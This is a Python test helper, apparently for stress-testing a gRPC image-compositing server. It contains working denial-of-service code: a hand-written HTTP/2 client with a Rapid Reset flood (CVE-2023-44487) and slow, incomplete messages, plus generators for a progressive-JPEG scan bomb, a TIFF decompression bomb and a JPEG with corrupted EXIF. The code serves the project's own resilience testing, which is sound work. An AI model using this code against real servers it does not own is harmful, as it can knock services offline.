"""An attacker who speaks HTTP/2 by hand, and pictures that nobody should decode.

Source: RFC 9113 (frames), RFC 7541 (a header field "literal without indexing" needs no table).
"""

from __future__ import annotations

import io
import socket
import struct
import threading
import zlib
from typing import Any

import numpy as np
from PIL import Image

_PATIENCE = 60.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW = 0x0, 0x1, 0x3, 0x4, 0x6, 0x8
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1
_INITIAL_WINDOW_SIZE = 4  # a setting

COMPOSITE = "/anydoor.v1.CompositorService/Composite"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"


class Attacker:
    """One connection. It acknowledges settings and pings, and reads nothing else."""

    def __init__(self, address: str, window: int | None = None) -> None:
        """Connects.

        Args:
            address: host:port.
            window: bytes of an answer that are taken; HTTP/2's default if None.
        """
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), _PATIENCE)
        self._socket.settimeout(None)
        settings = b"" if window is None else struct.pack(">HI", _INITIAL_WINDOW_SIZE, window)
        self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
        self._stream = 1
        self.ended = threading.Event()
        """Set when the server ends the connection."""
        self.received = b""
        """Everything that came."""
        threading.Thread(target=self._acknowledge, daemon=True).start()

    def __enter__(self) -> Attacker:
        return self

    def __exit__(self, *error: object) -> None:
        # close alone would wait for the thread that reads
        self._try(lambda: self._socket.shutdown(socket.SHUT_RDWR))
        self._socket.close()

    def open(self, path: str, **headers: str) -> int:
        """Begins a call, and sends nothing of its message; returns the stream."""
        stream, self._stream = self._stream, self._stream + 2
        self._try(lambda: self._socket.sendall(_frame(_HEADERS, _END_HEADERS, stream, _head(path, headers))))
        return stream

    def message(self, stream: int, content: bytes, missing: int = 0) -> None:
        """Sends a message that fits into the window that a stream has at first.

        Args:
            stream: what `open` returned.
            content: of the message.
            missing: bytes of it that never come.
        """
        body = b"\0" + struct.pack(">I", len(content) + missing) + content
        pieces = [body[place : place + 16_384] for place in range(0, len(body), 16_384)]
        for index, piece in enumerate(pieces):
            flags = _END_STREAM if not missing and index == len(pieces) - 1 else 0
            self._try(lambda f=flags, p=piece: self._socket.sendall(_frame(_DATA, f, stream, p)))  # type: ignore[misc]

    def flood(self, path: str, count: int, **headers: str) -> None:
        """Begins calls, and takes each back at once (CVE-2023-44487), as long as the connection lasts."""
        head = _head(path, headers)
        for _ in range(count // 100):
            frames = []
            for _ in range(100):
                frames.append(_frame(_HEADERS, _END_HEADERS, self._stream, head))
                frames.append(_frame(_RESET, 0, self._stream, struct.pack(">I", 8)))
                self._stream += 2
            try:
                self._socket.sendall(b"".join(frames))
            except OSError:
                return

    def _acknowledge(self) -> None:
        try:
            while True:
                length, kind, flags, _ = struct.unpack(">IBBI", b"\0" + self._exactly(9))
                payload = self._exactly(length)
                self.received += payload
                if kind in (_SETTINGS, _PING) and not flags & _ACK:
                    content = payload if kind == _PING else b""
                    self._socket.sendall(_frame(kind, _ACK, 0, content))
        except OSError:
            self.ended.set()

    def _exactly(self, count: int) -> bytes:
        content = b""
        while len(content) < count:
            piece = self._socket.recv(count - len(content))
            if not piece:
                raise OSError("the server ended the connection")
            content += piece
        return content

    def _try(self, work: Any) -> None:
        """What the server no longer takes is no fault of the test."""
        try:
            work()
        except OSError:
            self.ended.set()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _head(path: str, headers: dict[str, str]) -> bytes:
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "server",
        "content-type": "application/grpc",
        "te": "trailers",
        **headers,
    }
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())


def _text(value: str) -> bytes:
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


def scan_bomb(side: int = 2048, scans: int = 600) -> bytes:
    """Returns a progressive JPEG whose last scan is repeated: each goes over all pixels."""
    buffer = io.BytesIO()
    grey = Image.fromarray(np.zeros((side, side), np.uint8))
    grey.save(buffer, "JPEG", progressive=True)
    content = buffer.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * scans + content[-2:]


def tile_bomb(side: int = 8192) -> bytes:
    """Returns a TIFF of 80 x 64 pixels with one tile that is far larger."""
    tile = zlib.compress(bytes(side * side), 9)
    entries = [
        (256, 3, 1, 80),  # width
        (257, 3, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 8),  # deflate
        (262, 3, 1, 1),
        (277, 3, 1, 1),
        (322, 4, 1, side),
        (323, 4, 1, side),
        (324, 4, 1, 8),
        (325, 4, 1, len(tile)),
    ]
    directory = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, kind, count)
        + struct.pack("<I" if kind == 4 else "<HH", *([value] if kind == 4 else [value, 0]))
        for tag, kind, count, value in entries
    )
    return b"II*\0" + struct.pack("<I", 8 + len(tile)) + tile + directory + b"\0\0\0\0"


def damaged_exif() -> bytes:
    """Returns a JPEG whose EXIF data makes Pillow raise `struct.error`: an entry has an unknown type."""
    buffer = io.BytesIO()
    picture = Image.fromarray(np.random.default_rng(0).integers(0, 256, (64, 80, 3), np.uint8))
    exif = Image.Exif()
    exif[0x010E], exif[0x0112], exif[0x011A] = "a description", 6, 72.0
    picture.save(buffer, "JPEG", exif=exif)
    content = bytearray(buffer.getvalue())
    content[content.index(b"Exif") + 17] = 25  # the type of the first entry
    return bytes(content)
